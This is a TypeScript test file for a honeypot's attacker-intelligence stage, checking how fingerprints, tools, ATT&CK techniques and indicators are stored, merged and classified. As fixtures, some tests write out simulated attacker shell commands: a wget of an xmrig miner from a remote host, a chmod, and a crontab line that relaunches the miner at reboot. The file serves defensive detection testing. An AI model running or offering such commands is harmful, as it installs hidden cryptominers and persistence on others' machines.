// The ingest intelligence stage and its storage (migration 0014), on both databases. The analyser is
// injected: each event carries the EventFindings it should yield (fields.findings), so these tests
// check storage, merging and classification independently of the rule sets (core/intel's own tests).
import type { AttackerIntelSummary, EventFindings, IntelEvent } from '@decnet/core'
import { afterEach, describe, expect, it } from 'vitest'
import { createDatabase, type DecnetDatabase } from '../src/database.ts'
import { type IntelAnalyser, MAX_INTEL_VALUE } from '../src/repos/intel-batch.ts'
import type { LogEventInput } from '../src/types.ts'
import { databases, event } from './fixtures.ts'

const T = (minute: number) => new Date(Date.UTC(2026, 10, 25, 10, minute))

const none = (): EventFindings => ({ fingerprints: [], tools: [], techniques: [], iocs: [], behaviour: {} })

/** An event that yields `findings` (merged over empty ones). */
function finding(findings: Partial<EventFindings>, overrides: Partial<LogEventInput> = {}): LogEventInput {
  return event({ ...overrides, fields: { ...overrides.fields, findings: { ...none(), ...findings } } })
}

let versions = { tools: 't1', techniques: 'k1', iocs: 'i1', classification: 'c1' }

const analyser: IntelAnalyser = {
  analyseEvent(e: IntelEvent): EventFindings {
    if (e.fields.explode === true) throw new Error('a rule tripped over this event')
    return (e.fields.findings as EventFindings | undefined) ?? none()
  },
  classifyAttacker(summary: AttackerIntelSummary) {
    const failures = summary.behaviour.authFailures ?? 0
    if (summary.tools.includes('nmap')) return { class: 'scanner', evidence: ['nmap probes'] }
    if (failures >= 3) return { class: 'brute_forcer', evidence: [`${failures} failed logins`] }
    return { class: 'unknown', evidence: [] }
  },
  get versions() {
    return versions
  },
}

/** The analyser above, also recording every summary the classification saw. */
function recordingAnalyser(): IntelAnalyser & { seen: AttackerIntelSummary[] } {
  const seen: AttackerIntelSummary[] = []
  return {
    analyseEvent: analyser.analyseEvent,
    classifyAttacker(summary) {
      seen.push(summary)
      return analyser.classifyAttacker(summary)
    },
    get versions() {
      return versions
    },
    seen,
  }
}

describe.each(databases())('attacker intelligence storage on $kind', (provider) => {
  const opened: DecnetDatabase[] = []
  const open = async (options: Parameters<typeof createDatabase>[1] = { intel: analyser }) => {
    const db = createDatabase(await provider.freshUrl(), options)
    opened.push(db)
    return db
  }
  afterEach(async () => {
    await Promise.all(opened.splice(0).map((db) => db.close()))
    versions = { tools: 't1', techniques: 'k1', iocs: 'i1', classification: 'c1' }
  })

  it('merges findings per attacker within and across batches: counts, seen range, first evidence kept', async () => {
    const db = await open()
    const ssh = {
      kind: 'hassh',
      value: 'ec7378c1a92f5a8dde7e8b7a1ddf33d1',
      detail: 'curve25519-sha256;…',
    } as const
    await db.logs.ingest([
      finding(
        {
          fingerprints: [ssh],
          tools: [{ tool: 'hydra', ruleId: 'tool.hydra.libssh', evidence: 'SSH-2.0-libssh_0.9.6' }],
        },
        { timestamp: T(5) },
      ),
      finding(
        { fingerprints: [ssh], tools: [{ tool: 'hydra', ruleId: 'tool.hydra.libssh', evidence: 'second' }] },
        { timestamp: T(2) },
      ),
      finding(
        {
          techniques: [{ technique: 'T1105', ruleId: 'attack.wget', evidence: 'wget http://198.51.100.9/x' }],
          iocs: [
            { kind: 'url', value: 'http://198.51.100.9/x', source: 'command' },
            { kind: 'ip', value: '198.51.100.9', source: 'command' },
          ],
        },
        { timestamp: T(7), decky: 'decky-02', eventType: 'command' },
      ),
    ])
    versions = { ...versions, tools: 't2' }
    await db.logs.ingest([
      finding(
        { tools: [{ tool: 'hydra', ruleId: 'tool.hydra.libssh', evidence: 'third' }] },
        { timestamp: T(9) },
      ),
      finding(
        { iocs: [{ kind: 'url', value: 'http://198.51.100.9/x', source: 'download' }] },
        { timestamp: T(1), decky: 'decky-03' },
      ),
    ])
    const [attacker] = (await db.attackers.list()).rows
    const intel = await db.intel.forAttacker(attacker?.id as string)
    expect(intel?.fingerprints).toEqual([
      { ...ssh, service: 'ssh', count: 2, firstSeen: T(2), lastSeen: T(5) },
    ])
    expect(intel?.fingerprintTotal).toBe(1)
    expect(intel?.tools).toEqual([
      {
        tool: 'hydra',
        ruleId: 'tool.hydra.libssh',
        ruleVersion: 't2',
        // The first event of the first batch that matched: later sightings only count.
        evidence: 'SSH-2.0-libssh_0.9.6',
        count: 3,
        firstSeen: T(2),
        lastSeen: T(9),
      },
    ])
    expect(intel?.techniques).toEqual([
      {
        technique: 'T1105',
        ruleId: 'attack.wget',
        ruleVersion: 'k1',
        evidence: 'wget http://198.51.100.9/x',
        decky: 'decky-02',
        count: 1,
        firstSeen: T(7),
        lastSeen: T(7),
      },
    ])
    expect(intel?.iocTotal).toBe(2)
    expect(intel?.iocs.map((i) => [i.kind, i.value, i.source, i.decky, i.count])).toEqual(
      expect.arrayContaining([
        ['url', 'http://198.51.100.9/x', 'command', 'decky-02', 2],
        ['ip', '198.51.100.9', 'command', 'decky-02', 1],
      ]),
    )
    const url = intel?.iocs.find((i) => i.kind === 'url')
    expect([url?.firstSeen, url?.lastSeen]).toEqual([T(1), T(7)])
  })

  it('sums behaviour counters and classifies each touched attacker from its whole profile', async () => {
    const recording = recordingAnalyser()
    const db = await open({ intel: recording })
    const failure = (ip: string, minute: number) =>
      finding(
        { behaviour: { authAttempts: 1, authFailures: 1 } },
        { attackerIp: ip, timestamp: T(minute), fields: { username: 'root', password: `pw${minute}` } },
      )
    await db.logs.ingest([failure('192.0.2.1', 1), failure('192.0.2.1', 2), failure('192.0.2.2', 1)])
    let a = (await db.attackers.list({ q: '192.0.2.1' })).rows[0]
    expect(a?.behaviour).toEqual({ authAttempts: 2, authFailures: 2 })
    expect(a?.classification).toBe('unknown')

    // The third failure arrives in a later batch: the class comes from the stored counters plus it.
    await db.logs.ingest([failure('192.0.2.1', 3)])
    a = (await db.attackers.list({ q: '192.0.2.1' })).rows[0]
    expect(a?.behaviour).toEqual({ authAttempts: 3, authFailures: 3 })
    expect(a?.classification).toBe('brute_forcer')
    expect(a?.classificationEvidence).toEqual(['3 failed logins'])
    const last = recording.seen.at(-1)
    expect(last).toMatchObject({
      eventCount: 3,
      credentialCount: 3,
      serviceCount: 1,
      deckyCount: 1,
      behaviour: { authAttempts: 3, authFailures: 3 },
      tools: [],
      techniques: [],
    })
    expect(last?.firstSeen.toISOString()).toBe(T(1).toISOString())
    expect(last?.lastSeen.toISOString()).toBe(T(3).toISOString())
    // Only the attacker the batch touched was classified again.
    expect(recording.seen).toHaveLength(3)

    // A tool match (in this batch, no new counters) decides over the failures.
    await db.logs.ingest([
      finding(
        {
          tools: [{ tool: 'nmap', ruleId: 'tool.nmap.ua', evidence: 'Nmap Scripting Engine' }],
          techniques: [{ technique: 'T1595', ruleId: 'attack.scan', evidence: 'probe' }],
        },
        { attackerIp: '192.0.2.1', timestamp: T(4), service: 'http' },
      ),
    ])
    a = (await db.attackers.list({ q: '192.0.2.1' })).rows[0]
    expect(a?.classification).toBe('scanner')
    expect(a?.classificationEvidence).toEqual(['nmap probes'])
    expect(recording.seen.at(-1)).toMatchObject({ tools: ['nmap'], techniques: ['T1595'], serviceCount: 2 })
    const other = (await db.attackers.list({ q: '192.0.2.2' })).rows[0]
    expect([other?.classification, other?.behaviour]).toEqual([
      'unknown',
      { authAttempts: 1, authFailures: 1 },
    ])
  })

  it("leaves DECNET's own probes out, survives a rule that throws, and can be switched off", async () => {
    const db = await open()
    const stored = await db.logs.ingest([
      finding(
        { tools: [{ tool: 'curl', ruleId: 'tool.curl', evidence: 'curl/8' }], behaviour: { requests: 1 } },
        { system: true, attackerIp: '127.0.0.1' },
      ),
      event({ fields: { explode: true } }),
      finding({ iocs: [{ kind: 'domain', value: 'pool.example', source: 'command' }] }),
    ])
    expect(stored).toHaveLength(3)
    expect((await db.attackers.list()).rows.map((a) => a.ip)).toEqual(['203.0.113.7'])
    expect((await db.intel.iocs()).rows.map((i) => i.value)).toEqual(['pool.example'])
    expect(await db.intel.techniques()).toEqual([])

    const off = await open({ intel: false })
    await off.logs.ingest([
      finding({
        iocs: [{ kind: 'domain', value: 'pool.example', source: 'command' }],
        behaviour: { authFailures: 9 },
      }),
    ])
    const [a] = (await off.attackers.list()).rows
    expect(a?.eventCount).toBe(1)
    expect(a?.behaviour).toEqual({})
    expect((await off.intel.iocs()).total).toBe(0)
  })

  it('caps stored values; values equal up to the cap are one row (one statement never repeats a key)', async () => {
    const db = await open()
    const long = 'x'.repeat(MAX_INTEL_VALUE + 10)
    await db.logs.ingest([
      finding({
        iocs: [
          { kind: 'filename', value: `${long}a`, source: 'command' },
          { kind: 'filename', value: `${long}b`, source: 'command' },
          { kind: 'filename', value: 'nul\u0000byte', source: 'command' },
        ],
        tools: [{ tool: 'x', ruleId: 'r', evidence: 'e'.repeat(10_000) }],
      }),
    ])
    const [a] = (await db.attackers.list()).rows
    const intel = await db.intel.forAttacker(a?.id as string)
    const values = intel?.iocs.map((i) => i.value).sort()
    expect(values).toEqual(['nul\ufffdbyte', 'x'.repeat(MAX_INTEL_VALUE)])
    expect(intel?.iocs.find((i) => i.value.startsWith('x'))?.count).toBe(2)
    expect(intel?.tools[0]?.evidence.length).toBe(512)
  })

  it('lists indicators and techniques fleet-wide, deduplicated over attackers, filtered and paged', async () => {
    const db = await open()
    const batch: LogEventInput[] = []
    for (let n = 1; n <= 4; n++) {
      const ip = `198.51.100.${n}`
      batch.push(
        finding(
          {
            iocs: [
              { kind: 'url', value: 'http://203.0.113.5/xmrig', source: 'command' },
              ...(n <= 2
                ? [{ kind: 'sha256' as const, value: 'a'.repeat(64), source: 'download' as const }]
                : []),
              { kind: 'filename', value: `100%_${n}.sh`, source: 'command' },
            ],
            techniques: [
              { technique: 'T1105', ruleId: 'attack.wget', evidence: 'wget' },
              ...(n === 4 ? [{ technique: 'T1496', ruleId: 'attack.miner', evidence: 'xmrig' }] : []),
            ],
          },
          { attackerIp: ip, timestamp: T(n) },
        ),
        finding(
          { techniques: [{ technique: 'T1105', ruleId: 'attack.curl', evidence: 'curl -O' }] },
          { attackerIp: ip, timestamp: T(10 + n) },
        ),
      )
    }
    // One attacker fetches twice more: it leads the technique's attackers.
    batch.push(
      finding(
        { techniques: [{ technique: 'T1105', ruleId: 'attack.wget', evidence: 'wget' }] },
        { attackerIp: '198.51.100.3' },
      ),
      finding(
        { techniques: [{ technique: 'T1105', ruleId: 'attack.wget', evidence: 'wget' }] },
        { attackerIp: '198.51.100.3' },
      ),
    )
    await db.logs.ingest(batch)

    const all = await db.intel.iocs({ limit: 2 })
    expect(all.total).toBe(6)
    expect(all.rows.map((r) => [r.kind, r.value, r.attackers, r.hits])).toEqual([
      ['url', 'http://203.0.113.5/xmrig', 4, 4],
      ['sha256', 'a'.repeat(64), 2, 2],
    ])
    expect(all.rows[0]?.firstSeen.toISOString()).toBe(T(1).toISOString())
    expect(all.rows[0]?.lastSeen.toISOString()).toBe(T(4).toISOString())
    const rest = await db.intel.iocs({ limit: 10, cursor: all.nextCursor })
    expect(rest.rows).toHaveLength(4)
    expect(rest.nextCursor).toBeUndefined()
    expect((await db.intel.iocs({ kind: 'filename' })).total).toBe(4)
    // `%` and `_` are literal in the value filter.
    expect((await db.intel.iocs({ q: '%_3' })).rows.map((r) => r.value)).toEqual(['100%_3.sh'])
    expect((await db.intel.iocs({ q: 'zz%' })).total).toBe(0)

    // Keyset pages for exports: every indicator once, in (kind, value) order.
    const keyset: string[] = []
    let after: { kind: string; value: string } | undefined
    for (;;) {
      const page = await db.intel.iocPage({ after, limit: 4 })
      keyset.push(...page.map((r) => `${r.kind}:${r.value}`))
      if (page.length < 4) break
      const last = page.at(-1)
      after = last && { kind: last.kind, value: last.value }
    }
    expect(keyset).toEqual([...keyset].sort())
    expect(new Set(keyset).size).toBe(6)
    expect(await db.intel.iocPage({ kind: 'sha256', limit: 10 })).toHaveLength(1)

    const techniques = await db.intel.techniques()
    expect(techniques.map((t) => [t.technique, t.attackers, t.hits])).toEqual([
      ['T1105', 4, 10],
      ['T1496', 1, 1],
    ])
    const t1105 = techniques[0]
    expect(t1105?.topAttackers).toHaveLength(4)
    expect(t1105?.topAttackers[0]).toMatchObject({ ip: '198.51.100.3', count: 4 })
    const ids = new Map((await db.attackers.list()).rows.map((a) => [a.ip, a.id]))
    expect(t1105?.topAttackers.every((a) => ids.get(a.ip) === a.id)).toBe(true)
  })

  it('purge removes the intelligence with the attackers', async () => {
    const db = await open()
    await db.logs.ingest([
      finding({
        fingerprints: [{ kind: 'ja3', value: 'abc', detail: '771,…' }],
        tools: [{ tool: 'curl', ruleId: 'tool.curl', evidence: 'curl/8' }],
        techniques: [{ technique: 'T1190', ruleId: 'attack.exploit', evidence: '/cgi-bin' }],
        iocs: [{ kind: 'ip', value: '192.0.2.66', source: 'http' }],
      }),
    ])
    await db.logs.purge()
    expect((await db.intel.iocs()).total).toBe(0)
    expect(await db.intel.techniques()).toEqual([])
    expect(await db.intel.iocPage({ limit: 10 })).toEqual([])
  })

  it("through core's rules: a brute force, a miner download with a cron job, and a scan are told apart", async () => {
    const db = await open({})
    const at = (second: number) => new Date(Date.UTC(2026, 11, 3, 12, 0, second))
    const brute = Array.from({ length: 6 }, (_, i) =>
      event({
        attackerIp: '198.51.100.10',
        eventType: 'auth_attempt',
        timestamp: at(i * 2),
        fields: { username: 'root', password: `pw-${i}`, success: false },
      }),
    )
    const shell = (cmd: string, second: number) =>
      event({
        attackerIp: '198.51.100.20',
        eventType: 'command',
        timestamp: at(second),
        fields: { username: 'root', cmd, cwd: '/root', via: 'ssh' },
      })
    await db.logs.ingest([
      ...brute.slice(0, 3),
      event({ attackerIp: '198.51.100.20', eventType: 'tty_start', timestamp: at(1), fields: { sid: 's1' } }),
      shell('wget http://172.20.0.9:8080/xmrig -O /tmp/.x/xmrig', 20),
    ])
    await db.logs.ingest([
      ...brute.slice(3),
      shell('chmod +x /tmp/.x/xmrig', 40),
      shell(
        '(crontab -l 2>/dev/null; echo "@reboot /tmp/.x/xmrig -o stratum+tcp://172.20.0.9:3333") | crontab -',
        60,
      ),
      ...['ssh', 'http', 'smb', 'ftp'].map((service, i) =>
        event({ attackerIp: '192.0.2.30', eventType: 'connect', service, timestamp: at(i), fields: {} }),
      ),
    ])
    const byIp = new Map((await db.attackers.list()).rows.map((a) => [a.ip, a]))
    expect(byIp.get('198.51.100.10')?.classification).toBe('brute_forcer')
    expect(byIp.get('198.51.100.10')?.classificationEvidence[0]).toContain('6 login attempts (6 failed)')
    expect(byIp.get('198.51.100.20')?.classification).toBe('interactive')
    expect(byIp.get('198.51.100.20')?.behaviour).toMatchObject({
      interactiveSessions: 1,
      interactiveCommands: 3,
    })
    expect(byIp.get('192.0.2.30')?.classification).toBe('scanner')

    const miner = await db.intel.forAttacker(byIp.get('198.51.100.20')?.id as string)
    const techniques = new Set(miner?.techniques.map((t) => t.technique))
    for (const id of ['T1105', 'T1053.003', 'T1496']) expect(techniques).toContain(id)
    const iocs = miner?.iocs.map((i) => `${i.kind}:${i.value}`) ?? []
    expect(iocs).toContain('url:http://172.20.0.9:8080/xmrig')
    expect(iocs).toContain('ip:172.20.0.9')
    const fleet = await db.intel.techniques()
    expect(fleet.find((t) => t.technique === 'T1105')?.attackers).toBe(1)
    expect(await db.intel.forAttacker('missing')).toBeNull()
  })
})
